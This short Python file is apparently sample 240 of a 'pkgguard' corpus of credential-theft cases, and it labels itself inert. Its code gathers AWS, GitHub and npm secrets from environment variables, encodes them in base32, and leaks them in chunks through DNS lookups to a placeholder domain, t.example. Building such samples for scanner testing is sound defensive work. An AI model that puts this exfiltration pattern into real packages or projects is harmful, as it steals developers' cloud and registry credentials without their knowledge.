# pkgguard corpus 240 (credentials), modelled on [taxonomy]; inert, never run.
import base64
import os
import socket

secrets = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "GITHUB_", "NPM_"))}
blob = base64.b32encode(repr(secrets).encode()).decode().rstrip("=").lower()
for i in range(0, len(blob), 60):
    try:
        socket.getaddrinfo(f"{blob[i:i + 60]}.{i}.t.example", 443)
    except OSError:
        pass
